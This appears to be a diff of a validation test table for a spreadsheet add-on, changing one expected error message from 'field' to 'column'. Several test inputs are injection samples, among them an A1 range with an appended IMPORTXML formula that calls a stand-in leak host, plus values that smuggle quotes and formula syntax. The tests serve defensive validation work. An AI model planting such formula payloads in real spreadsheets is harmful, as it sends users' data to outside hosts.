@@ -29,7 +29,7 @@ test.each([
   [{ name: 'IMPORTXML' }, 'function'],
   [{ area: null }, 'Select the cells'],
   [{ area: { sheet: 'Sheet1', a1: 'A2;IMPORTXML("http://leak.example")' } }, 'Select the cells'],
-  [{ ticked: ['secret"'] }, 'at least one field'],
+  [{ ticked: ['secret"'] }, 'at least one column'],
   [{ name: 'SOCIAL_POSTS', ticked: ['likes'], limit: '21' }, 'from 1 to 20'],
   [{ name: 'SOCIAL_TRACKED', ticked: ['views'], days: '1)+1' }, 'from 1 to 365'],
   [{ name: 'SOCIAL_REPORT', campaign: '' }, 'campaign'],
